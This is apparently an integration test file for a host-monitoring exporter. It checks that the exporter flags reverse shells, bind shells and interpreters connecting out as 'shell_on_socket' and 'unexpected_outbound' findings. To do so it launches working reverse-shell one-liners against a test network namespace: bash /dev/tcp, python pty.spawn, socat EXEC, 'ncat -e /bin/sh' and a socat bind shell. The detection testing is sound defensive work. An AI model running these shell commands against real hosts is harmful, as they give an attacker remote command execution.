import { execFileSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { sealBaseline, type BaselineDocument } from '../../src/baseline/baseline.js';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { FindingsDocument } from '../../src/findings/report.js';
import { runCli, startExporter, tempDir, type RunningExporter } from '../helpers/cli.js';
import { eventually } from '../helpers/eventually.js';
import { sampleValue } from '../helpers/exposition.js';
import { outputOf, remoteHost, type RemoteHost } from '../helpers/netns.js';
import { spawnForFile, spawnOwned, stopProcess } from '../helpers/processes.js';
import { childConnection, nodeUnderAnotherName } from '../helpers/sockets.js';
import { requireTool } from '../helpers/tools.js';

/**
 * Reverse and bind shells, and interpreters calling out, against `serve` with the embedded default
 * policy's network judgment: real bash, python, socat and ncat, connected to a remote host played
 * by a network namespace of the test's own (test/helpers/netns.ts). Each scenario is read on the
 * first scrape after the shell answers a command, as an operator would read /api/findings.
 * Other tests run beside these, so every assertion is about what this file planted.
 */

type Finding = FindingsDocument['findings'][number];

const python = '/usr/bin/python3';
const pythonExe = '/usr/bin/python3.11';

let exporter: RunningExporter;
let exporterLog: ReturnType<typeof outputOf>;
let stateDir: string;
let remote: RemoteHost;

/** The default policy but the sweeps, which only cost time here. */
const policy = 'processes:\n  hidden_sweep: { enabled: false }\nlisteners:\n  hidden_ports: { enabled: false }\n';

function exporterArgs(dir: string, policyText = policy): string[] {
  writeFileSync(join(dir, 'policy.yml'), policyText);
  return [
    '--collector.disable-defaults',
    '--collector.processes',
    '--collector.network',
    '--findings.show-details',
    '--state.dir',
    dir,
    '--config.file',
    join(dir, 'policy.yml'),
  ];
}

beforeAll(async () => {
  for (const [tool, pkg] of [
    ['socat', 'socat'],
    ['ncat', 'ncat'],
    [python, 'python3'],
    ['ss', 'iproute2'],
  ])
    requireTool(tool!, pkg!);
  stateDir = tempDir();
  // Trust on first use: the host as it is now is the baseline, so only what the tests plant is new.
  exporter = await startExporter(exporterArgs(stateDir), { spawn: spawnForFile });
  exporterLog = outputOf(exporter.child);
}, 120_000);

afterAll(async () => {
  if (exporter) await stopProcess(exporter.child);
});

async function findings(): Promise<Finding[]> {
  return ((await (await fetch(`${exporter.url}/api/findings`)).json()) as FindingsDocument).findings;
}

async function metrics(): Promise<string> {
  return (await fetch(`${exporter.url}/metrics`)).text();
}

function about(list: Finding[], kind: string, port: number): Finding[] {
  return list.filter((f) => f.kind === kind && (f.subject.port === port || f.subject.remote_port === port));
}

/** A listener in the remote namespace that holds one session: commands go in on its stdin, the shell's output comes out. */
function remoteListener(port: number) {
  const listener = remote.spawn('ncat', ['-l', remote.remoteAddress, String(port)], { stdio: ['pipe', 'pipe', 'pipe'] });
  const output = outputOf(listener);
  return {
    listener,
    output,
    /** Run a command in the shell at the other end and wait for its answer: the shell is then on its socket. */
    async answer(command: string, expected: RegExp): Promise<void> {
      listener.stdin!.write(`${command}\n`);
      await output.waitFor(expected);
    },
  };
}

/** Wait until something listens in the remote namespace on this port (ncat -l is up). */
async function remoteListening(port: number): Promise<void> {
  await eventually(() => remote.run('ss', ['-Htln', `sport = :${port}`]).trim() !== '', {
    what: `a listener on ${remote.remoteAddress}:${port}`,
  });
}

describe('shells on sockets and interpreters calling out, seen by serve on the first scrape', () => {
  // A remote host per test, removed after it (test/helpers/netns.ts).
  beforeEach(() => {
    remote = remoteHost();
  });

  it('a reverse shell from packaged bash over /dev/tcp is a critical shell_on_socket naming bash, and its traffic is counted', async () => {
    const port = 4444;
    const session = remoteListener(port);
    await remoteListening(port);
    const shell = spawnOwned('bash', ['-c', `exec bash -i >& /dev/tcp/${remote.remoteAddress}/${port} 0>&1`]);
    await session.answer('echo READY-$((6*7))', /READY-42/);

    const found = about(await findings(), 'shell_on_socket', port);
    expect(found).toEqual([
      expect.objectContaining({
        severity: 'critical',
        subject: {
          exe: '/usr/bin/bash',
          user: 'root',
          program_class: 'interpreter',
          protocol: 'tcp',
          direction: 'outgoing',
          remote_class: 'private',
          port,
          remote_address: remote.remoteAddress,
        },
      }),
    ]);
    expect(found[0]!.message).toBe(
      `/usr/bin/bash (pid ${shell.pid}) has its standard input, output and error on a tcp connection it opened to ${remote.remoteAddress}:${port}: a reverse shell`,
    );
    // bash is an interpreter calling a destination the baseline never saw it use.
    expect(
      about(await findings(), 'unexpected_outbound', port).map((f) => [f.subject.exe, f.subject.reason, f.subject.remote_class]),
    ).toEqual([['/usr/bin/bash', 'new_destination', 'private']]);
    const before = await metrics();
    expect(
      sampleValue(before, 'hostguard_network_shell_on_socket', {
        exe: '/usr/bin/bash',
        user_class: 'root',
        program_class: 'interpreter',
        protocol: 'tcp',
        direction: 'outgoing',
        remote_class: 'private',
        port: String(port),
      }),
    ).toBe(1);

    // 300,000 bytes out through the shell: counted as sent by a connection with a shell on it.
    const sentBefore = sampleValue(before, 'hostguard_network_flagged_bytes_total', { direction: 'sent', kind: 'shell_on_socket' })!;
    await session.answer("head -c 300000 /dev/zero | tr '\\0' x; echo; echo SENT-$((1+1))", /SENT-2/);
    const after = await metrics();
    const sent = sampleValue(after, 'hostguard_network_flagged_bytes_total', { direction: 'sent', kind: 'shell_on_socket' })! - sentBefore;
    expect(sent).toBeGreaterThanOrEqual(300_000);
    expect(sent).toBeLessThan(310_000);
    expect(sampleValue(after, 'hostguard_network_flagged_bytes_total', { direction: 'received', kind: 'shell_on_socket' })).toBeGreaterThan(
      0,
    );

    await stopProcess(shell, 'SIGKILL');
    expect(about(await findings(), 'shell_on_socket', port)).toEqual([]);
  });

  it('python3 calling out is an unexpected_outbound naming python (new destination); a pty.spawn shell over its socket is a shell_on_socket', async () => {
    const plainPort = 4445;
    remoteListener(plainPort);
    await remoteListening(plainPort);
    spawnOwned(python, [
      '-c',
      `import socket,signal; s=socket.create_connection(('${remote.remoteAddress}', ${plainPort})); print('CONNECTED', flush=True); signal.pause()`,
    ]);
    await waitUntilConnected(plainPort);
    const outbound = about(await findings(), 'unexpected_outbound', plainPort);
    expect(outbound.map((f) => f.subject)).toEqual([
      {
        protocol: 'tcp',
        exe: pythonExe,
        user: 'root',
        reason: 'new_destination',
        remote_class: 'private',
        remote_address: remote.remoteAddress,
        remote_port: plainPort,
      },
    ]);
    expect(outbound[0]!.message).toMatch(
      new RegExp(
        `^${pythonExe} \\(pid \\d+\\) is connected to tcp ${remote.remoteAddress.replace(/\./g, '\\.')}:${plainPort} \\(private\\), a destination the baseline never saw it use$`,
      ),
    );
    expect(about(await findings(), 'shell_on_socket', plainPort)).toEqual([]);

    const ptyPort = 4446;
    const session = remoteListener(ptyPort);
    await remoteListening(ptyPort);
    const script = `import socket,os,pty; s=socket.create_connection(('${remote.remoteAddress}', ${ptyPort})); [os.dup2(s.fileno(), f) for f in (0, 1, 2)]; pty.spawn('/bin/sh')`;
    const shell = spawnOwned(python, ['-c', script]);
    await session.answer('echo PTY-$((2*21))', /PTY-42/);
    // The interpreter holds the socket as its standard streams; the shell it spawned is on a terminal.
    expect(
      about(await findings(), 'shell_on_socket', ptyPort).map((f) => [f.severity, f.subject.exe, f.subject.direction, f.message]),
    ).toEqual([
      [
        'critical',
        pythonExe,
        'outgoing',
        `${pythonExe} (pid ${shell.pid}) has its standard input, output and error on a tcp connection it opened to ${remote.remoteAddress}:${ptyPort}: a reverse shell`,
      ],
    ]);
  });

  it('socat: its EXEC with nofork puts sh on the socket (shell_on_socket); through its default socketpair only socat calls out (unexpected_outbound)', async () => {
    const direct = 4447;
    const session = remoteListener(direct);
    await remoteListening(direct);
    spawnOwned('socat', [`TCP:${remote.remoteAddress}:${direct}`, 'EXEC:/bin/sh,nofork']);
    await session.answer('echo SOCAT-$((40+2))', /SOCAT-42/);
    expect(about(await findings(), 'shell_on_socket', direct).map((f) => [f.subject.exe, f.subject.program_class])).toEqual([
      ['/usr/bin/dash', 'interpreter'],
    ]);

    const piped = 4448;
    const relay = remoteListener(piped);
    await remoteListening(piped);
    spawnOwned('socat', [`TCP:${remote.remoteAddress}:${piped}`, 'EXEC:/bin/sh']);
    await relay.answer('echo PIPED-$((40+2))', /PIPED-42/);
    const list = await findings();
    // sh reads a unix socketpair here, not a network socket: not a shell on a socket.
    expect(about(list, 'shell_on_socket', piped)).toEqual([]);
    expect(about(list, 'unexpected_outbound', piped).map((f) => [f.subject.exe, f.subject.reason])).toEqual([
      ['/usr/bin/socat', 'new_destination'],
    ]);
  });

  it('ncat -e relays through pipes: ncat (a network tool) calling out is the finding', async () => {
    const port = 4449;
    const session = remoteListener(port);
    await remoteListening(port);
    spawnOwned('ncat', [remote.remoteAddress, String(port), '-e', '/bin/sh']);
    await session.answer('echo NCAT-$((40+2))', /NCAT-42/);
    const list = await findings();
    expect(about(list, 'shell_on_socket', port)).toEqual([]);
    // sh inherits ncat's socket as well (fd 3), so both hold the connection.
    expect(about(list, 'unexpected_outbound', port).map((f) => [f.subject.exe, f.subject.reason])).toEqual([
      ['/usr/bin/dash,/usr/bin/ncat', 'new_destination'],
    ]);
  });

  it('a bind shell handed an accepted connection is a shell_on_socket of direction incoming', async () => {
    const port = 4450;
    const bind = spawnOwned('socat', [`TCP-LISTEN:${port},bind=${remote.hostAddress},reuseaddr`, 'EXEC:/bin/sh,nofork']);
    await eventually(async () => (await metrics()).includes(`port="${port}"`), { intervalMs: 250, what: `a series of port ${port}` });
    const client = remote.spawn('ncat', [remote.hostAddress, String(port)], { stdio: ['pipe', 'pipe', 'pipe'] });
    const output = outputOf(client);
    client.stdin!.write('echo BIND-$((40+2))\n');
    await output.waitFor(/BIND-42/);
    expect(
      about(await findings(), 'shell_on_socket', port).map((f) => [f.severity, f.subject.exe, f.subject.direction, f.subject.remote_class]),
    ).toEqual([['critical', '/usr/bin/dash', 'incoming', 'private']]);
    expect(about(await findings(), 'unexpected_listener', port)).toEqual([]);
    await stopProcess(bind);
  });
});

describe('between scrapes', () => {
  beforeEach(() => {
    remote = remoteHost();
  });

  it('a one-shot reverse shell gone before any scrape is counted by the watch of new PIDs and logged with its pid', async () => {
    const port = 4452;
    const session = remoteListener(port);
    await remoteListening(port);
    const counted = () =>
      metrics().then((m) => sampleValue(m, 'hostguard_network_shell_on_socket_starts_total', { program_class: 'interpreter' })!);
    const before = await counted();
    // It stays until the exporter has logged it, so no machine is too slow for the watch; no scrape meanwhile.
    const shell = spawnOwned('bash', ['-c', `exec 0<>/dev/tcp/${remote.remoteAddress}/${port} 1>&0 2>&0; echo ONESHOT; read line`]);
    await session.output.waitFor(/ONESHOT/);
    await exporterLog.waitFor(
      new RegExp(
        `socket as a standard stream.*pid=${shell.pid} exe=/usr/bin/bash program_class=interpreter protocol=tcp direction=outgoing port=${port}`,
      ),
    );
    await stopProcess(shell, 'SIGKILL');
    expect(await counted()).toBe(before + 1);
    expect(about(await findings(), 'shell_on_socket', port)).toEqual([]);
  });
});

describe('outgoing connections against the baseline and the processes collector (check)', () => {
  beforeEach(() => {
    remote = remoteHost();
  });

  function cli(dir: string, args: string[], policyText = policy) {
    return runCli([...exporterArgs(dir, policyText), ...args]);
  }

  function checkFindings(dir: string): Finding[] {
    const result = cli(dir, ['check', '--format', 'json']);
    if (result.code === 2) throw new Error(`check failed: ${result.stderr}`);
    return (JSON.parse(result.stdout) as FindingsDocument).findings;
  }

  async function pythonConnectedTo(port: number): Promise<number> {
    remoteListener(port);
    await remoteListening(port);
    const child = spawnOwned(python, [
      '-c',
      `import socket,signal; s=socket.create_connection(('${remote.remoteAddress}', ${port})); print('CONNECTED', flush=True); signal.pause()`,
    ]);
    await outputOf(child).waitFor(/CONNECTED/);
    return child.pid!;
  }

  it('the baseline learns the destinations interpreters use, `baseline diff` shows a new one, and `update` keeps the old ones', async () => {
    const dir = tempDir();
    const [first, second] = [4460, 4461];
    const firstPid = await pythonConnectedTo(first);
    expect(cli(dir, ['baseline', 'init']).code).toBe(0);
    const key = (port: number) => `outbound tcp/private/${port} ${pythonExe}`;
    const learned = () =>
      Object.keys((JSON.parse(readFileSync(join(dir, 'baseline.json'), 'utf8')) as BaselineDocument).sections['network'] ?? {});
    expect(learned()).toEqual(expect.arrayContaining(['outbound', key(first)]));
    expect(about(checkFindings(dir), 'unexpected_outbound', first)).toEqual([]);

    await pythonConnectedTo(second);
    expect(about(checkFindings(dir), 'unexpected_outbound', second).map((f) => f.subject.reason)).toEqual(['new_destination']);
    const diff = cli(dir, ['baseline', 'diff']);
    expect(diff.code).toBe(1);
    expect(diff.stdout).toContain(`+ ${key(second)}\n`);
    expect(diff.stdout).not.toContain(key(first));

    process.kill(firstPid, 'SIGKILL');
    expect(cli(dir, ['baseline', 'update']).code).toBe(0);
    // The first connection is gone, its destination stays learned.
    expect(learned()).toEqual(expect.arrayContaining([key(first), key(second)]));
    expect(about(checkFindings(dir), 'unexpected_outbound', second)).toEqual([]);
  }, 180_000);

  it('a baseline written before destinations were learned judges none new, says so, and `baseline diff` offers them', async () => {
    const dir = tempDir();
    const port = 4462;
    await pythonConnectedTo(port);
    expect(cli(dir, ['baseline', 'init']).code).toBe(0);
    // The same baseline as an earlier version wrote it: listeners only, sealed anew.
    const document = JSON.parse(readFileSync(join(dir, 'baseline.json'), 'utf8')) as BaselineDocument;
    const { sha256: _sha, hmac_sha256: _hmac, ...body } = document;
    body.sections['network'] = Object.fromEntries(Object.entries(body.sections['network']!).filter(([k]) => !k.startsWith('outbound')));
    writeFileSync(join(dir, 'baseline.json'), JSON.stringify(sealBaseline(body)));

    const result = cli(dir, ['check', '--format', 'json']);
    expect(about((JSON.parse(result.stdout) as FindingsDocument).findings, 'unexpected_outbound', port)).toEqual([]);
    expect(result.stderr).toContain('the baseline was written before destinations of shells, interpreters and network tools were learned');
    const diff = cli(dir, ['baseline', 'diff']);
    expect(diff.stdout).toContain('+ outbound\n');
    expect(diff.stdout).toContain(`+ outbound tcp/private/${port} ${pythonExe}\n`);
  }, 120_000);

  it('a process with a finding (a program run from /tmp) calling out is an unexpected_outbound of reason flagged_process', async () => {
    const dir = tempDir();
    const port = 4463;
    remoteListener(port);
    await remoteListening(port);
    expect(cli(dir, ['baseline', 'init']).code).toBe(0);
    const agent = nodeUnderAnotherName(tempDir(), 'agent');
    await childConnection(remote.remoteAddress, port, agent);
    const found = checkFindings(dir);
    expect(
      found
        .filter((f) => f.subject.exe === agent)
        .map((f) => f.kind)
        .sort(),
    ).toEqual(['unexpected_outbound', 'unknown_executable', 'writable_location']);
    expect(about(found, 'unexpected_outbound', port).map((f) => [f.subject.reason, f.subject.remote_class])).toEqual([
      ['flagged_process', 'private'],
    ]);
    // The network collector alone has no processes collector to flag it: a program of class "other" is not judged.
    const alone = runCli([...exporterArgs(dir).filter((a) => a !== '--collector.processes'), 'check', '--format', 'json']);
    expect(about((JSON.parse(alone.stdout) as FindingsDocument).findings, 'unexpected_outbound', port)).toEqual([]);
  }, 120_000);
});

describe('programs a super-server hands a connection to', () => {
  let host: RemoteHost;
  beforeEach(() => {
    host = remoteHost();
  });

  /** `check` with the network collector alone and this policy. */
  function check(policyText: string): Finding[] {
    const dir = tempDir();
    const result = runCli([...exporterArgs(dir, policyText).filter((a) => a !== '--collector.processes'), 'check', '--format', 'json']);
    if (result.code === 2) throw new Error(`check failed: ${result.stderr}`);
    return (JSON.parse(result.stdout) as FindingsDocument).findings;
  }

  it("are on their socket by design: allowed when the listener's holder is a super-server, a warning for another program otherwise", async () => {
    const port = 4451;
    // socat as a tiny inetd: it accepts, forks, and the child execs cat with the connection as stdin and stdout.
    spawnOwned('socat', [`TCP-LISTEN:${port},bind=${host.hostAddress},reuseaddr,fork`, 'EXEC:/usr/bin/cat,nofork']);
    await eventually(() => spawnSyncText('ss', ['-Htln', `sport = :${port}`]) !== '', { what: `a listener on port ${port}` });
    const client = host.spawn('ncat', [host.hostAddress, String(port)], { stdio: ['pipe', 'pipe', 'pipe'] });
    const output = outputOf(client);
    client.stdin!.write('ECHO-42\n');
    await output.waitFor(/ECHO-42/);

    const noSuperServer = 'processes:\n  hidden_sweep: { enabled: false }\nlisteners:\n  hidden_ports: { enabled: false }\n';
    const onSocket = about(check(noSuperServer), 'shell_on_socket', port);
    expect(onSocket.map((f) => [f.severity, f.subject.exe, f.subject.program_class, f.subject.direction])).toEqual([
      ['warning', '/usr/bin/cat', 'other', 'incoming'],
    ]);
    expect(onSocket[0]!.message).toContain(`accepted on port ${port}, which no super-server listens on`);

    const socatIsOne = `${noSuperServer}shell_on_socket:\n  super_servers: [/usr/bin/socat]\n`;
    expect(about(check(socatIsOne), 'shell_on_socket', port)).toEqual([]);
    const allowed = `${noSuperServer}shell_on_socket:\n  allow:\n    - exe: /usr/bin/cat\n      port: ${port}\n`;
    expect(about(check(allowed), 'shell_on_socket', port)).toEqual([]);
  }, 120_000);
});

function spawnSyncText(command: string, args: string[]): string {
  return execFileSync(command, args, { encoding: 'utf8' }).trim();
}

/** The host has an established connection to the remote port. */
async function waitUntilConnected(port: number): Promise<void> {
  await eventually(() => spawnSyncText('ss', ['-Htn', 'state', 'established', `dport = :${port}`]) !== '', {
    what: `a connection to port ${port}`,
  });
}
